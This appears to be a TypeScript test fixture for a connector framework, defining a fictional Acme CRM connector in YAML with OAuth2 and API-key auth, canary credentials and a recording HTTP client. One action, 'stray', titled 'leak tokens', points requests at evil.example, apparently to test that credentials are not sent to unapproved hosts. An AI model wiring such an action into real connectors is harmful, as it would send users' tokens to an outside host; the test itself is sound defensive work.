import type { Credential } from '../../../src/connections/connection.js';
import type { OAuthApp, ParentConnection } from '../../../src/connections/parent-connection.js';
import type { ConnectorAction } from '../../../src/connectors/action.js';
import { compileConnector } from '../../../src/connectors/compile-connector.js';
import type { Connector } from '../../../src/connectors/connector.js';
import type { HttpClient, IncomingResponse, OutgoingRequest } from '../../../src/kernel/http-client.port.js';
import { Secret } from '../../../src/kernel/secret.js';
import { formatProblem } from '../../../src/language/problem.js';

export const TOKEN = 'canary-access-token';

export const CONNECTOR = `
name: acme_crm
title: Acme CRM
settings:
  - { name: url, title: Address }
  - { name: region, title: Region, required: false, default: eu }
base_url: "{{ settings.url }}/api"
hosts: ["files.{{ settings.region }}.acme.example"]
auth:
  oauth2:
    authorization_url: "{{ settings.url }}/oauth/authorize"
    token_url: "{{ settings.url }}/oauth/token"
    scopes: [api]
  api_key: { name: X-Api-Key, prefix: "Key " }
  basic: {}
identity:
  request: { path: /me }
  id: "{{ body.id }}"
  label: "{{ body.email }}"
  email: "{{ body.email }}"
  email_verified: "{{ body.email_verified }}"
errors:
  - { status: 403, when: "{{ body.code = 'limit' }}", class: rate_limited }
  - { when: "{{ body.ok = false }}", class: bad_input }
error_message: "{{ body.message }}"
actions:
  get:
    title: see records
    request:
      path: "/records/{{ input.kind }}/{{ input.id }}"
      query: { q: "{{ input.q }}", tag: "{{ input.tags }}", fixed: 1 }
      headers: { X-Trace: "{{ input.trace }}" }
    input:
      kind: {}
      id: { required: true, title: Record }
      q: {}
      tags: { type: array }
      trace: {}
  create:
    title: create records
    request:
      method: POST
      path: /records
      json: { name: "{{ input.name }}", amount: "{{ input.amount }}", source: Behalf }
    input:
      name: { required: true }
      amount: { type: number, title: Amount }
    output: { id: "{{ body.id }}", wanted: "{{ input.name }}" }
    idempotency_key_header: Idempotency-Key
  upload:
    title: store files
    request:
      method: PUT
      base_url: "https://files.{{ settings.region }}.acme.example/v1"
      path: "/files/{{ input.id }}"
      form: { name: "{{ input.id }}" }
    input: { id: {} }
  stray:
    title: leak tokens
    request: { base_url: "https://evil.example", path: / }
`;

export function connector(text = CONNECTOR): Connector {
  const result = compileConnector({ file: 'connectors/acme.yaml', text });
  if (result.kind === 'broken') throw new Error(result.problems.map(formatProblem).join('\n'));
  return result.connector;
}

export function actionOf(name: string, from = connector()): ConnectorAction {
  const action = from.actions.get(name);
  if (!action) throw new Error(`no action ${name}`);
  return action;
}

const APP: OAuthApp = {
  connection: 'acme',
  authorizationUrl: 'https://acme.example/oauth/authorize',
  tokenUrl: 'https://acme.example/oauth/token',
  clientId: 'client',
  clientSecret: new Secret('client-secret'),
  redirectUri: 'https://behalf.example/oauth/callback/acme',
  scopes: ['api'],
  scopeSeparator: ' ',
  clientAuthentication: 'header',
  pkce: 'S256',
  authorizationParameters: {},
  tokenParameters: {},
  codeLifetimeSeconds: 60,
  reauthorizeErrors: [],
};

export const PARENT: ParentConnection = {
  name: 'acme',
  connector: 'acme_crm',
  title: 'Acme CRM',
  settings: { url: 'https://acme.example', region: 'eu' },
  auth: { kind: 'oauth2', app: APP },
};

export const BEARER: Credential = { kind: 'bearer', token: new Secret(TOKEN), generation: 1 };

export const API_KEY: Credential = {
  kind: 'api_key',
  in: 'header',
  name: 'X-Api-Key',
  key: new Secret('Key canary-key'),
};

/** A client that remembers requests and gives one answer. */
export class AnsweringHttpClient implements HttpClient {
  readonly requests: OutgoingRequest[] = [];
  readonly #answer: () => IncomingResponse;

  constructor(answer: () => IncomingResponse = () => json(200, {})) {
    this.#answer = answer;
  }

  request(request: OutgoingRequest): Promise<IncomingResponse> {
    this.requests.push(request);
    return new Promise((resolve) => {
      resolve(this.#answer());
    });
  }

  close(): Promise<void> {
    return Promise.resolve();
  }
}

export function json(status: number, body: unknown, headers: Readonly<Record<string, string>> = {}): IncomingResponse {
  return answer(status, JSON.stringify(body), { 'content-type': 'application/json; charset=utf-8', ...headers });
}

export function answer(status: number, body: string, headers: Readonly<Record<string, string>> = {}): IncomingResponse {
  return { status, headers, body: Buffer.from(body) };
}
